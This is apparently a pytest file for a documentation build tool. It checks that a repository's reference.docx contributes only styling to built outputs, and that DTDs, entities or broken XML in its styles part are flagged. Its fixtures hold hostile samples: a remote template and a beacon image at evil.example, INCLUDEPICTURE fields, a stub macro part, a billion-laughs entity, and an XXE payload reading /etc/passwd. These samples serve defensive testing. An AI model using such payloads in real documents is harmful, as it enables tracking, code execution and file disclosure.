"""Finding 5: a repository's reference.docx gives the outputs its styles, numbering, page setup,
theme and fonts, and nothing else; a DTD, an entity or a broken part is a finding of `check`."""

from __future__ import annotations

import io
import zipfile

import pytest
from repos import TODAY, said_cleanly, watched

from isodocs.system import resources

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EVIL = "http://evil.example"


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def clean_reference() -> dict[str, bytes]:
    """The built-in reference with styles and a page of the manual's own: Arial, a 25 mm margin."""
    parts = parts_of(resources.read_bytes("templates", "reference.docx"))
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b'w:ascii="Times New Roman"', b'w:ascii="Arial"', 1)
    parts["word/document.xml"] = parts["word/document.xml"].replace(b'w:left="1701"', b'w:left="1417"')
    return parts


def add(parts: dict[str, bytes], name: str, text: str) -> None:
    closing = b"</Relationships>" if name.endswith(".rels") else b"</Types>"
    parts[name] = parts.get(name, b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                                  b'package/2006/relationships"></Relationships>').replace(closing, text.encode() + closing)


def hostile_reference() -> dict[str, bytes]:
    """The same, carrying what Word would act on: a remote attached template, an external image,
    INCLUDEPICTURE fields, a macro part, a comment, a header, picture bullets, an embedded font."""
    parts = clean_reference()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:defaultTabStop", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdT"/><w:defaultTabStop'.encode())
    add(parts, "word/_rels/settings.xml.rels",
        f'<Relationship Id="rIdT" Type="{REL}attachedTemplate" Target="{EVIL}/t.dotm" TargetMode="External"/>')
    add(parts, "word/_rels/document.xml.rels",
        f'<Relationship Id="rIdImg" Type="{REL}image" Target="{EVIL}/beacon.png" TargetMode="External"/>'
        f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        f'Target="vbaProject.bin"/><Relationship Id="rIdHdr" Type="{REL}header" Target="header9.xml"/>'
        f'<Relationship Id="rIdCmt" Type="{REL}comments" Target="comments.xml"/>'
        f'<Relationship Id="rIdFont" Type="{REL}font" Target="fonts/font1.odttf"/>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 AutoOpen Shell(calc.exe)"
    parts["word/fonts/font1.odttf"] = b"font"
    field = f'<w:fldSimple w:instr=\'INCLUDEPICTURE "{EVIL}/field.png" \\d\'><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    parts["word/header9.xml"] = f'<w:hdr xmlns:w="{W}"><w:p>{field}</w:p></w:hdr>'.encode()
    parts["word/comments.xml"] = f'<w:comments xmlns:w="{W}"><w:comment w:id="0"><w:p/></w:comment></w:comments>'.encode()
    add(parts, "[Content_Types].xml", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/header9.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.header+xml"/>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.document.main+xml")  # a .docx still, by name
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body><w:p/>", f'<w:body><w:p>{field}<w:r><w:drawing><a:blip xmlns:a="x" xmlns:r="{R}" '
                           f'r:link="rIdImg"/></w:drawing></w:r></w:p>'.encode()).replace(
        b"<w:sectPr>", f'<w:sectPr><w:headerReference xmlns:r="{R}" w:type="default" r:id="rIdHdr"/>'.encode())
    parts["word/numbering.xml"] = (
        f'<w:numbering xmlns:w="{W}" xmlns:r="{R}"><w:numPicBullet w:numPicBulletId="0"><w:pict>'
        f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rIdImg"/></w:pict></w:numPicBullet>'
        f'</w:numbering>').encode()
    parts["word/fontTable.xml"] = parts["word/fontTable.xml"].replace(
        b'<w:pitch w:val="variable"/></w:font>',
        f'<w:pitch w:val="variable"/><w:embedRegular xmlns:r="{R}" r:id="rIdFont"/></w:font>'.encode(), 1)
    return parts


@pytest.fixture
def w(tmp_path, tmp_path_factory):
    yield from watched(tmp_path, tmp_path_factory)


def test_only_styles_numbering_page_theme_and_fonts_reach_the_outputs(w):
    """A draft of the working tree records no commit: with the clean reference and with the
    hostile one, the same manual builds the same bytes."""
    (w.root / "reference.docx").write_bytes(zipped(clean_reference()))
    clean = w.reference("--draft")
    (w.root / "reference.docx").write_bytes(zipped(hostile_reference()))
    assert said_cleanly(w.run("check", "--today", TODAY), 0)
    hostile = w.reference("--draft")
    assert hostile == clean != {}
    assert clean.keys() == w.clean_build().keys() and clean["manual.docx"] != w.clean_build()["manual.docx"]
    for name, data in hostile.items():  # Arial and a 25 mm margin are taken; nothing else is
        assert b'w:ascii="Arial"' in parts_of(data)["word/styles.xml"]
        for part, content in parts_of(data).items():
            for needle in (b"evil.example", b"INCLUDEPICTURE", b"attachedTemplate", b"vbaProject", b"AutoOpen",
                           b"numPicBullet", b"embedRegular", b"macroEnabled", b'TargetMode="External"'):
                assert needle not in content, (name, part, needle)
            assert not part.startswith(("word/comments", "word/fonts/", "word/media/", "customXml")), (name, part)


DTD = b'<?xml version="1.0"?>\n<!DOCTYPE w:styles [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>\n'
XXE = b'<?xml version="1.0"?>\n<!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'


@pytest.mark.parametrize("styles, en, vi", [
    (DTD + b'<w:styles xmlns:w="' + W.encode() + b'">&lol2;</w:styles>',
     "word/styles.xml declares a DTD or entities, which a Word file never holds",
     "word/styles.xml khai báo DTD hoặc thực thể (entity), điều một tệp Word không bao giờ có"),
    (XXE + b'<w:styles xmlns:w="' + W.encode() + b'">&x;</w:styles>',
     "word/styles.xml declares a DTD or entities, which a Word file never holds",
     "word/styles.xml khai báo DTD hoặc thực thể (entity), điều một tệp Word không bao giờ có"),
    (b'<w:styles xmlns:w="' + W.encode() + b'"><w:style>&undefined;</w:styles>',
     "word/styles.xml is not well-formed XML (line 1)", "word/styles.xml không phải XML hợp lệ (dòng 1)"),
    (b'<w:styles xmlns:w="' + W.encode() + b'"><w:style></w:styles>',
     "word/styles.xml is not well-formed XML (line 1)", "word/styles.xml không phải XML hợp lệ (dòng 1)"),
    (b'<w:numbering xmlns:w="' + W.encode() + b'"/>',
     "word/styles.xml is not the styles part its relationship says",
     "word/styles.xml không phải phần styles như quan hệ của nó cho biết"),
    (b'<w:styles xmlns:w="' + W.encode() + b'">' + b"<w:style>" * 300 + b"</w:style>" * 300 + b"</w:styles>",
     "word/styles.xml is not well-formed XML", "word/styles.xml không phải XML hợp lệ"),
])
def test_a_dtd_an_entity_or_a_broken_styles_part_is_f111_in_check(w, styles, en, vi):
    parts = clean_reference()
    parts["word/styles.xml"] = styles
    w.commit({"reference.docx": zipped(parts)}, "Mẫu định dạng hỏng")
    for lang, says, code in (("en", en, "F111 error: reference.docx cannot be used: "),
                             ("vi", vi, "F111 lỗi: Không dùng được reference.docx: ")):
        out = said_cleanly(w.run("check", "--today", TODAY, lang=lang), 1)
        assert f"reference.docx: {code}{says}" in out, out
    out = said_cleanly(w.run("build", "--today", TODAY), 1)
    assert "the manual has errors; nothing was built" in out and not (w.root / "build").exists()
